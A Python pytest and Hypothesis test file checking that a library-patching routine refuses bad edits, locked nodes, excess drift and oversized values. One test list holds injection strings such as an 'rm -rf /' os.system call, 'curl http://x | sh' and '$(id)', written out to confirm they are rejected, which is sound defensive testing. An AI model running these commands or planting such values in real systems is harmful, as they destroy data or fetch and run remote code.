"""Edits of a library: what passes leaves a sound library, what does not says why."""

from __future__ import annotations

import copy
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planish.methods.cowork.data import Patch
from planish.methods.cowork.improving.patches import (
    CODES,
    Limits,
    Rejected,
    apply,
    between,
    node_of,
)
from planish.methods.cowork.improving.texts import printable
from planish.methods.cowork.method import drift
from planish.methods.cowork.skills import Library, check, parse_library
from support.skills import OPS, document, edits, patch, replace, small

WIDE = Limits(max_ops=100, max_bytes=100_000, delta_round=100, delta_total=100)
NEW = {"id": "stand_back", "task": "work", "subtasks": ["aside"], "when": ["in_the_way"]}


def refused(*ops, library=None, limits=WIDE, anchor=None, **fields) -> Rejected:
    library = library or small()
    with pytest.raises(Rejected) as caught:
        apply(patch(library, *ops, **fields), library, limits=limits, anchor=anchor or library)
    return caught.value


def done(*ops, library=None) -> Library:
    library = library or small()
    return apply(patch(library, *ops), library, limits=WIDE, anchor=library)


def test_every_kind_of_operation_does_what_it_says():
    found = done(
        {"op": "test", "path": "/methods/cook/priority", "value": 60},
        replace("/methods/cook/priority", 75),
        {"op": "add", "path": "/methods/-", "value": NEW},
        {"op": "add", "path": "/methods/cook/when/-", "value": "can_cook"},
        {"op": "remove", "path": "/methods/give_way/when/gives_way"},
        replace("/params/patience/value", 5),
        replace("/operators/get_onion/args/thing", "dish"),
        {"op": "remove", "path": "/params/detour"},
    )
    assert found.method("cook").priority == 75
    assert found.method("cook").when == ("wanted(onion)", "can_cook")
    assert found.method("give_way").when == ("blocked_for(patience)",)
    assert found.method("stand_back").when == ("in_the_way",)
    assert found.values == {"patience": 5}
    assert found.operators[0].args == {"thing": "dish"}


def test_an_element_is_put_before_another_that_is_named():
    found = done({"op": "add", "path": "/methods/fetch_and_fill/subtasks/fill", "value": "wait"})
    assert found.method("fetch_and_fill").subtasks == ("get_onion", "wait", "fill")


def test_a_later_operation_sees_what_an_earlier_one_did():
    found = done(
        {"op": "add", "path": "/methods/stand_back", "value": NEW},
        replace("/methods/stand_back/priority", 95),
        {"op": "add", "path": "/methods/stand_back/interrupt_when/-", "value": "gives_way"},
    )
    assert found.method("stand_back").priority == 95
    assert found.method("stand_back").interrupt_when == ("gives_way",)


BAD_OPS = [
    ({"op": "move", "from": "/methods/cook", "path": "/methods/rest"}, "op is one of"),
    ({"path": "/methods/cook/priority", "value": 1}, "op is one of"),
    ({"op": "replace", "path": 5, "value": 1}, "a path is a text"),
    ({"op": "replace", "path": "/methods/cook/priority"}, "value is missing"),
    (replace("", document()), "begins with"),
    (replace("/methods", []), "begins with"),
    (replace("/name", "mine"), "begins with"),
    (replace("methods/cook/priority", 1), "start with /"),
    (replace("/methods/~3/priority", 1), "escape"),
    (replace("/methods/1/priority", 1), "there is no methods/1"),
    (replace("/methods/nobody/priority", 1), "there is no methods/nobody"),
    (replace("/methods/cook/when/0", "can_cook"), "positions are not accepted"),
    ({"op": "add", "path": "/methods/cook/subtasks/0", "value": "wait"}, "positions"),
    ({"op": "remove", "path": "/methods/cook/when/gives_way"}, "is not in the list"),
    ({"op": "remove", "path": "/methods/cook/when/-"}, "is not in the list"),
    (replace("/methods/cook/task/deeper", 1), "nothing lies below"),
    (replace("/methods/cook/nothing/deeper", 1), "nothing lies below"),
    (replace("/methods/cook/colour", 1), "non-existent"),
    (replace("/methods/cook/id", "chef"), "not for a patch"),
    (replace("/methods/cook/stats", {"tried": 9, "succeeded": 9}), "not for a patch"),
    (replace("/methods/cook", {**NEW, "id": "chef"}), "keep the id"),
    (replace("/methods/cook", "gone"), "keep the id"),
    ({"op": "add", "path": "/methods/cook", "value": {**NEW, "id": "cook"}}, "there already"),
    ({"op": "add", "path": "/methods/other", "value": NEW}, "the node's id is"),
    ({"op": "add", "path": "/methods/-", "value": "wait"}, "an object with an id"),
    (replace("/params/patience/value", float("nan")), "not JSON"),
    (replace("/params/patience/value", float("inf")), "not JSON"),
    (replace("/methods/cook/provenance", "\ud800"), "not JSON"),
    (replace("/methods/cook/priority", {1, 2}), "not JSON"),
]


@pytest.mark.parametrize(("op", "why"), BAD_OPS)
def test_what_is_no_operation_on_a_node_is_refused_with_the_reason(op, why):
    error = refused(op)
    assert error.code == "bad_op"
    assert why in error.detail


@pytest.mark.parametrize(
    ("op", "code"),
    [
        ({"op": "test", "path": "/methods/cook/priority", "value": 61}, "test_failed"),
        ({"op": "test", "path": "/methods/nobody/priority", "value": 1}, "test_failed"),
        ({"op": "test", "path": "/methods/cook/when/gives_way", "value": 1}, "test_failed"),
        (replace("/methods/rest/priority", 5), "locked"),
        ({"op": "remove", "path": "/methods/rest"}, "locked"),
        (replace("/methods/rest/locked", False), "locked"),
        ({"op": "remove", "path": "/methods/rest/locked"}, "locked"),
        (replace("/methods/cook/locked", True), "locked"),
        (replace("/methods/cook/locked", "yes"), "locked"),
        ({"op": "add", "path": "/methods/-", "value": {**NEW, "locked": 1}}, "locked"),
        (replace("/methods/cook/when", ["flying"]), "unknown_predicate"),
        (replace("/methods/cook/when", ["holding(knife)"]), "unknown_argument"),
        (replace("/methods/cook/when", ["holding"]), "wrong_arguments"),
        (replace("/operators/fill/controller", "teleport"), "unknown_controller"),
        (replace("/operators/get_onion/args/thing", "knife"), "unknown_argument"),
        (replace("/operators/get_onion/args", {}), "wrong_arguments"),
        (replace("/methods/cook/subtasks", ["nowhere"]), "unknown_subtask"),
        (replace("/methods/cook/subtasks", ["work"]), "cycle"),
        (replace("/methods/cook/subtasks", ["wait"]), "unreachable"),
        ({"op": "add", "path": "/methods/-", "value": {**NEW, "id": "cook"}}, "duplicate_id"),
        ({"op": "remove", "path": "/params/patience"}, "unknown_argument"),
        (replace("/params/patience/value", 11), "schema"),
        (replace("/params/patience/value", 10**400), "schema"),
        (replace("/methods/cook/priority", 101), "schema"),
        (replace("/methods/cook/subtasks", []), "schema"),
        (replace("/methods/cook/provenance", "x" * 201), "schema"),
        ({"op": "add", "path": "/methods/cook/colour", "value": 1}, "schema"),
        ({"op": "add", "path": "/params/-", "value": {"id": "soup"}}, "schema"),
        (replace("/methods/cook/priority", 60), "no_change"),
        (replace("/methods/cook/provenance", "another hand"), "no_change"),
    ],
)
def test_every_fault_has_its_own_code(op, code):
    assert refused(op).code == code


def test_a_parameter_must_not_take_the_name_of_a_thing():
    node = {"id": "soup", "value": 1, "min": 0, "max": 2, "step": 1}
    assert refused({"op": "add", "path": "/params/-", "value": node}).code == "ambiguous_id"


CODE = [
    replace("/methods/cook/when", ["__import__('os').system('rm -rf /')"]),
    replace("/methods/cook/when", ["holding(onion); import os"]),
    replace("/methods/cook/when", ["holding(onion) == 1"]),
    replace("/methods/cook/subtasks", ["lambda view: 4"]),
    replace("/methods/cook/task", "work && curl http://x | sh"),
    replace("/operators/fill/controller", "eval(compile('1', '', 'eval'))"),
    replace("/operators/get_onion/args/thing", "() => fetch('/x')"),
    {"op": "add", "path": "/operators/get_onion/args/$(id)", "value": 1},
    {"op": "add", "path": "/methods/-", "value": {**NEW, "id": "__class__"}},
    {"op": "add", "path": "/methods/-", "value": {**NEW, "exec(1)[0]": []}},
    replace("/methods/cook/provenance", "tidied; import os now"),
    replace("/methods/cook/provenance", "<script>alert(1)</script>"),
    replace("/methods/cook/provenance", "see eval (payload)"),
]


@pytest.mark.parametrize("op", CODE)
def test_code_in_any_text_is_called_that(op):
    assert refused(op).code == "code_smuggled"


@pytest.mark.parametrize(
    "text", ["Moved by one step; lost ticks 310 -> 40.", "imported from the full library (v2)"]
)
def test_a_sentence_about_an_edit_is_no_code(text):
    found = done(replace("/methods/cook/provenance", text), replace("/methods/cook/priority", 61))
    assert found.method("cook").provenance == text


def test_a_slip_of_the_pen_is_not_called_code():
    assert refused(replace("/methods/cook/when", ["Wanted(onion)"])).code == "schema"


def test_size_staleness_and_drift_are_limited():
    library = small()
    ops = [replace("/params/patience/value", value) for value in range(13)]
    assert refused(*ops, limits=Limits()).code == "too_many_ops"
    assert refused(ops[0], rationale="x" * 9000, limits=Limits()).code == "too_large"
    assert refused(ops[0], evidence_ids=("x" * 9000,), limits=Limits()).code == "too_large"
    assert refused(base_hash="0" * 16).code == "stale_base"
    assert refused().code == "no_change"
    step = replace("/params/patience/value", 8)  # half of the range
    assert refused(step, limits=Limits(delta_round=0.49)).code == "drift_round"
    assert refused(step, limits=Limits(delta_total=0.49)).code == "drift_total"
    assert apply(patch(library, step), library, limits=Limits(delta_round=0.5), anchor=library)
    far = done({"op": "remove", "path": "/methods/give_way"})
    error = refused(step, library=far, anchor=library, limits=Limits(delta_total=1.49))
    assert error.code == "drift_total"
    assert "1.50" in error.detail


def test_a_value_without_end_in_sight_is_too_large():
    deep = [1]
    for _ in range(5000):
        deep = [deep]
    assert refused(replace("/methods/cook/when", deep)).code == "too_large"
    deep = [1]
    for _ in range(300):
        deep = [deep]
    assert refused(replace("/methods/cook/when", deep)).code in ("schema", "too_large")


def test_what_the_owner_locked_at_the_start_stays_though_the_lock_is_lost():
    original = small()
    loose = document()
    loose["methods"][-1]["locked"] = False
    library = parse_library(loose)
    change = patch(library, replace("/methods/rest/priority", 5))
    assert apply(change, library, anchor=library).method("rest").priority == 5
    with pytest.raises(Rejected, match="locked"):
        apply(change, library, anchor=library, original=original)


def test_statistics_are_measured_and_never_edited():
    made = document()
    made["methods"][1]["stats"] = {"tried": 9, "succeeded": 4}
    library = parse_library(made)
    lie = {"tried": 99, "succeeded": 99}
    found = done(
        replace("/methods/cook", {**made["methods"][1], "priority": 1, "stats": lie}),
        {"op": "add", "path": "/methods/-", "value": {**NEW, "stats": lie}},
        library=library,
    )
    assert found.method("cook").stats == library.method("cook").stats
    assert found.method("stand_back").stats.tried == 0


@given(st.data())
def test_random_operations_leave_a_sound_library_or_say_why(data):
    library = small()
    sound = between(library, data.draw(edits()))  # so that not all of them are refused at once
    some = st.lists(st.sampled_from(sound) | OPS if sound else OPS, max_size=4)
    ops = data.draw(some)
    before, given_ops = library.canonical(), copy.deepcopy(ops)
    try:
        found = apply(
            Patch(base_hash=library.digest, rationale="", ops=tuple(ops)), library, anchor=library
        )
    except Rejected as error:
        why = error
    else:
        why = None
        check(found)
        assert found.digest != library.digest
        assert drift(found, library) <= Limits().delta_round
        assert found.method("rest") == library.method("rest")
        assert not [n for n in found.methods if n.locked and n.id != "rest"]
    assert why is None or (why.code and why.detail.isprintable())
    assert library.canonical() == before
    assert repr(ops) == repr(given_ops)


@given(edits(), edits())
def test_what_lies_between_two_libraries_turns_one_into_the_other(a, b):
    ops = between(a, b)
    json.dumps(ops, allow_nan=False)
    if a.digest == b.digest:
        assert not ops
        return
    change = Patch(base_hash=a.digest, rationale="", ops=ops)
    found = apply(change, a, limits=WIDE, anchor=a)
    assert found.digest == b.digest
    assert drift(found, b) == 0


@given(edits(), edits(), edits())
def test_drift_is_a_distance(a, b, c):
    assert drift(a, a) == 0
    assert drift(a, b) == pytest.approx(drift(b, a))
    assert drift(a, c) <= drift(a, b) + drift(b, c) + 1e-9
    assert (drift(a, b) == 0) == (a.digest == b.digest)


def test_what_an_edit_weighs():
    library = small()
    assert drift(done({"op": "add", "path": "/methods/-", "value": NEW}), library) == 1
    assert drift(done({"op": "remove", "path": "/methods/give_way"}), library) == 1
    assert drift(done(replace("/methods/cook/priority", 1)), library) == 0.5
    assert drift(done(replace("/params/detour/value", 6)), library) == 0.25
    assert drift(done(replace("/params/detour/step", 2)), library) == 0.5


def test_a_node_is_named_and_a_text_of_unknown_origin_is_tamed():
    assert node_of({"op": "add", "path": "/methods/-", "value": NEW}) == "methods/stand_back"
    assert node_of({"op": "remove", "path": "/params/detour/value"}) == "params/detour"
    assert node_of({}) == "/"
    assert printable("a\x1b[31m\u202eb\n c\x00") == "a[31mb c"
    assert len(printable("word " * 1000, 50)) == 50


def test_the_codes_are_told_apart():
    assert all(text and text[0].islower() for text in CODES.values())
    assert {"stale_base", "locked", "code_smuggled", "drift_total"} <= CODES.keys()
